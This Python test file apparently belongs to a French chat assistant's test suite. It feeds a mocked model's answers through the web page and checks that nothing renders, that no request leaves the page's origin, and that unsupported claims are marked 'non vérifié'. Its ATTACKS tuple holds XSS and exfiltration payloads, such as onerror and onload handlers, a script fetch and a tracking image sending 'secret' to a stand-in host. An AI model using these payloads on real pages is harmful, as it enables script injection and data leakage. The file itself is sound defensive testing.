"""Hostile answers in the real page: no request elsewhere, nothing rendered, nothing to follow, and doubt is marked."""

import json
import re
from collections.abc import Iterator, Sequence
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.played_model import PlayedModel, play_model
from tests.processes import serve

QUESTION = "Quelles conditions de réussite pour TAPAJ ?"
ELSEWHERE = "http://127.0.0.1:9/"
ATTACKS = (
    f"Le détail est ici ![suivi]({ELSEWHERE}p.png?q=secret) pour tous [1].",
    f"<img src={ELSEWHERE}x onerror=alert(1)> TAPAJ verse une prime de 4 000 € [1].",
    f"<script>fetch('{ELSEWHERE}')</script> TAPAJ a un numéro vert [1].",
    f"[Inscrivez-vous]({ELSEWHERE}) ou [ici](javascript:alert(1)) avant vendredi [2].",
    f'<a href="{ELSEWHERE}" ping="{ELSEWHERE}">TAPAJ</a> <iframe src={ELSEWHERE}></iframe> recrute [1].',
    f"<link rel=stylesheet href={ELSEWHERE}l.css> TAPAJ brille [1].",
    "<svg onload=alert(1)><b>TAPAJ</b> &lt;img src=x onerror=alert(1)&gt; gagne un prix [1].",
    f"Voir {ELSEWHERE}fuite et //127.0.0.1:9/autre pour le dossier complet [1][2][3][4][5][6][7][8][9].",
    f'<style>body{{color:url({ELSEWHERE}b.png)}}</style> <p style="background:url({ELSEWHERE})">Bleu</p> partout [1].',
    f"![suivi][a] Un bilan existe [1].\n\n[a]: {ELSEWHERE}a.png\n\nIl est public [1].",
    f"<img srcset='{ELSEWHERE}s.png 2x'><video poster={ELSEWHERE}v.png></video><audio src={ELSEWHERE}> Sons [1].",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'><base href={ELSEWHERE}> TAPAJ déménage [1].",
    f"<form action={ELSEWHERE}><button autofocus onfocus=alert(1)>Oui</button></form> Répondez [1].",
    f"<object data={ELSEWHERE}></object><embed src={ELSEWHERE}><input type=image src={ELSEWHERE}i.png> Objets [1].",
    f"&#60;img src={ELSEWHERE}e.png&#62; &amp;lt;img src={ELSEWHERE}&amp;gt; Doublement codé [1].",
    f"<<img src={ELSEWHERE}>script>alert(1)<</script>/script> Emboîté [1].",
)
HOSTILE = Path(__file__).parents[1] / "assistant" / "verification" / "data" / "hostile.jsonl"
LONGEST = 8
"""Hostile texts in one answer: some are two sentences, and the twelfth would end it."""


@pytest.fixture(scope="module")
def played() -> Iterator[PlayedModel]:
    with play_model() as model:
        yield model


@pytest.fixture(scope="module", params=["replace", "mark"])
def hostile_url(
    request: pytest.FixtureRequest, played: PlayedModel, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[str]:
    """A server that this model writes for."""
    home = tmp_path_factory.mktemp("hostile") / "home"
    settings = {
        "ESSAIM_LLM": "openai:played",
        "ESSAIM_LLM_BASE_URL": played.url,
        "ESSAIM_LLM_UNSUPPORTED": request.param,
    }
    with serve(home, **settings) as server:
        yield server.address


@pytest.fixture
def strayed(page: Page, hostile_url: str) -> list[str]:
    """What the open page asked of anybody but its server, opened or said in a dialog."""
    found: list[str] = []
    page.on("dialog", lambda dialog: (found.append(dialog.message), dialog.dismiss()))
    page.on("websocket", lambda socket: found.append(socket.url))
    page.on("popup", lambda popup: found.append(popup.url))
    page.on(
        "request",
        lambda request: (
            found.append(request.url) if urlsplit(request.url).netloc != urlsplit(hostile_url).netloc else None
        ),
    )
    page.goto(hostile_url)
    return found


def in_answers(sentences: Sequence[str]) -> list[Sequence[str]]:
    """As many answers as it takes to say all of them."""
    return [sentences[begin : begin + LONGEST] for begin in range(0, len(sentences), LONGEST)]


def ask(page: Page, played: PlayedModel, sentences: Sequence[str]) -> Locator:
    """The turn in which the model says all of these."""
    played.text = " ".join(sentences)
    turns = page.locator(".turn").count()
    page.get_by_role("textbox", name=re.compile("Votre question")).fill(QUESTION)
    page.keyboard.press("Enter")
    expect(page.locator(".turn .outcome, .turn .notice.bad")).to_have_count(turns + 1)
    expect(page.locator(".turns")).to_have_attribute("aria-busy", "false")
    return page.locator(".turn").last


def assert_plain(answer: Locator, address: str) -> None:
    written = answer.locator(".answer-text")
    expect(
        written.locator("img, script, iframe, style, link, svg[onload], b, video, audio, form, object")
    ).to_have_count(0)
    links = [str(link.get_attribute("href")) for link in answer.locator("a").all()]
    assert all(link.startswith(("/sources/", "#", f"{address}/sources/")) for link in links)
    assert not re.search(r"127\.0\.0\.1:9|javascript:|<img|<script", written.inner_text())


def test_nothing_of_an_attack_leaves_or_runs(
    page: Page, hostile_url: str, played: PlayedModel, strayed: list[str]
) -> None:
    for attacks in in_answers(ATTACKS):
        assert_plain(ask(page, played, attacks), hostile_url)
    page.wait_for_load_state("networkidle")
    assert page.url.startswith(hostile_url)
    assert strayed == []


def test_no_hostile_answer_asks_another_origin(
    page: Page, hostile_url: str, played: PlayedModel, strayed: list[str]
) -> None:
    rows = [json.loads(line)["written"] for line in HOSTILE.read_text(encoding="utf-8").splitlines()]
    sentences = [re.sub(r"\[[a-z0-9-]+/[^\]]+\]", "[1]", row) for row in rows]
    assert len(sentences) >= 60
    for said in in_answers(sentences):
        assert_plain(ask(page, played, said), hostile_url)
    page.wait_for_load_state("networkidle")
    assert strayed == []


def test_what_no_source_supports_says_so(page: Page, hostile_url: str, played: PlayedModel, strayed: list[str]) -> None:
    answer = ask(page, played, ("TAPAJ verse une prime de 4 000 € à chaque jeune [1].",))
    marked = answer.locator(".segment.unverified")
    if marked.count() == 0:  # replaced by a source's own words
        expect(answer.locator(".answer-text")).not_to_contain_text("prime")
        return
    expect(marked).to_contain_text("prime")
    expect(answer.locator(".answer-text .tag.warn")).to_have_text("non vérifié")
    expect(answer.locator(".outcome")).not_to_contain_text("vérifié phrase à phrase")
    answer.get_by_role("button", name="Copier avec les sources").click()
    expect(page.locator("essaim-chat > [role=status]")).to_have_text("Copié")
    assert "chaque jeune. (non vérifié)" in page.evaluate("navigator.clipboard.readText()")
    assert strayed == []
